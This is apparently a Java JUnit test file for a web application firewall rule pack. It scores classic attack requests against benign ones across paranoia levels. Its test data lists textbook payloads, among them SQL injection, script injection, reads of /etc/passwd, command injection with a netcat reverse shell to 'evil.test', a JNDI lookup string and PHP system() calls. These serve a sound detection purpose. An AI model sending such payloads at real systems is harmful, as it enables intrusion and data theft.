package dev.edgecase.waf;

import static org.assertj.core.api.Assertions.assertThat;

import dev.edgecase.http.Headers;
import java.util.List;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class MiniPackTest {
    private static final String BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

    @ParameterizedTest(name = "{0} in {1} comes to {2}")
    @CsvSource(delimiter = '~', quoteCharacter = '^', textBlock = """
            SQL injection     ~ /login?user=' OR '1'='1                                    ~ 40
            SQL injection     ~ /login?user=admin%27%20or%201%3D1--                        ~ 50
            SQL injection     ~ /item?id=1%20UNION%20SELECT%20user,password%20FROM%20users ~ 40
            SQL injection     ~ /item?id=1'+UNION+ALL+SELECT+1,2,table_name+FROM+information_schema.tables--+ ~ 70
            SQL injection     ~ /item?id=1'+AND+SLEEP(5)--+                                ~ 60
            SQL injection     ~ /item?id=1';+DROP+TABLE+users;+--                          ~ 50
            Scripting         ~ /?q=<script>alert(1)</script>                              ~ 40
            Scripting         ~ /?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E               ~ 40
            Scripting         ~ /?q=<svg/onload=alert(1)>                                  ~ 50
            Scripting         ~ /?next=javascript:alert(document.cookie)                   ~ 40
            File inclusion    ~ /?file=../../../../etc/passwd                              ~ 45
            File inclusion    ~ /?file=..%252f..%252fetc%252fpasswd                        ~ 45
            File inclusion    ~ /?file=/etc/passwd                                         ~ 25
            File inclusion    ~ /?file=..\\..\\windows\\win.ini                            ~ 45
            Command           ~ /?host=127.0.0.1;cat+/etc/passwd                           ~ 55
            Command           ~ /?host=`id`                                                ~ 40
            Command           ~ /?host=$(whoami)                                           ~ 40
            Command           ~ /?host=x|nc+evil.test+4444+-e+/bin/sh                      ~ 50
            PHP               ~ /?c=<?php+system('id');?>                                  ~ 50
            PHP               ~ /?page=php://filter/convert.base64-encode/resource=index   ~ 40
            PHP               ~ /?c=eval(base64_decode($x))                                ~ 30
            Java              ~ /?n=T(java.lang.Runtime).getRuntime().exec('id')           ~ 50
            Java              ~ /?o=rO0ABXNyABFqYXZh                                       ~ 40
            Java              ~ /?q=${jndi:ldap://evil.test/a}                             ~ 40
            Smuggling         ~ /?q=a%0d%0aTransfer-Encoding:%20chunked                    ~ 40
            Smuggling         ~ /?q=a%0d%0a%0d%0aGET%20/admin%20HTTP/1.1                   ~ 40
            nothing           ~ /                                                          ~ 0
            nothing           ~ /cart?id=7&color=red&size=10                               ~ 0
            nothing           ~ /search?q=rock+and+roll+or+blues                           ~ 0
            nothing           ~ /search?q=O'Reilly+%26+Sons                                ~ 0
            nothing           ~ /search?q=it's+5+o'clock                                   ~ 0
            nothing           ~ /search?q=select+a+shirt+from+the+list                     ~ 0
            nothing           ~ /search?q=1+%2B+1+%3D+2                                    ~ 0
            nothing           ~ /search?q=a+%3C+b                                          ~ 0
            nothing           ~ /go?next=https%3A%2F%2Fshop.test%2Fcart%3Fa%3D1%26b%3D2    ~ 0
            nothing           ~ /static/../app.js                                          ~ 0
            nothing           ~ /mail?to=ann.lee%40example.test&cc=                        ~ 0
            nothing           ~ /javascript/app.js                                         ~ 0
            nothing           ~ /price?range=(10;20)                                       ~ 0
            """)
    void a_textbook_attack_has_its_score_and_an_ordinary_request_none(String sort, String target, int score) {
        var headers = Headers.of("User-Agent", BROWSER, "Cookie", "session=abc123; theme=dark");

        assertThat(score(target, headers, 1)).isEqualTo(score);
        if (score > 0) {
            assertThat(AttackHints.areIn(target, headers))
                    .as("what scores is looked for")
                    .isTrue();
        }
    }

    @ParameterizedTest(name = "{0} at level {1} comes to {2}")
    @CsvSource(delimiter = '~', quoteCharacter = '^', textBlock = """
            /?q=delete+this+from+my+list ~ 1 ~ 0
            /?q=delete+this+from+my+list ~ 2 ~ 10
            /?q=delete-this-from-my-list ~ 2 ~ 0
            /?q=delete/**/from/**/list   ~ 2 ~ 20
            /?f=../up                    ~ 1 ~ 0
            /?f=../up                    ~ 2 ~ 10
            /?q=<b>                      ~ 2 ~ 10
            /?q=({})                     ~ 2 ~ 0
            /?q=({})                     ~ 3 ~ 5
            /?q=({})                     ~ 4 ~ 10
            """)
    void higher_levels_see_more(String target, int level, int score) {
        assertThat(score(target, Headers.of("User-Agent", BROWSER), level)).isEqualTo(score);
    }

    @Test
    void who_does_not_say_who_it_is_scores_a_little() {
        assertThat(score("/", Headers.EMPTY, 1)).isEqualTo(5);
    }

    @Test
    void who_does_not_say_which_host_is_meant_scores_a_little() {
        var head = new Subject.Head("/", "", Headers.of("User-Agent", BROWSER), () -> false);

        assertThat(Detections.anomalies(new Subject(head, List.of()))).containsExactly("ec-protocol-host");
    }

    @Test
    void a_cookie_is_looked_at_like_an_argument() {
        assertThat(score("/", Headers.of("User-Agent", BROWSER, "Cookie", "a=b; id=' OR '1'='1"), 1))
                .isEqualTo(40);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '~', quoteCharacter = '^', textBlock = """
            /                                                        ~ session=abc; theme=dark
            /cart?id=7&color=red                                     ~ _ga=GA1.1.1234.5678; consent=1
            /assets/app-4f2a.min.js?v=1.2.3                          ~ a=b
            /caf%C3%A9/M%C3%BCller.html?next=https://shop.test/cart  ~ id=a%3Db
            """)
    void an_ordinary_request_is_not_even_decoded(String target, String cookies) {
        assertThat(AttackHints.areIn(target, Headers.of("User-Agent", BROWSER, "Cookie", cookies)))
                .isFalse();
    }

    private static int score(String target, Headers headers, int level) {
        var subject = new Subject(new Subject.Head(target, "shop.test", headers, () -> false), List.of());
        var found = Detections.anomalies(subject);
        return Detections.scoring().stream()
                .filter(each -> found.contains(each.ref()) && levelOf(each) <= level)
                .collect(Collectors.summingInt(Detection::score));
    }

    private static int levelOf(Detection detection) {
        return detection.categories().stream()
                .filter(name -> name.startsWith("paranoia-level-"))
                .mapToInt(name -> name.charAt(name.length() - 1) - '0')
                .findFirst()
                .orElseThrow();
    }
}
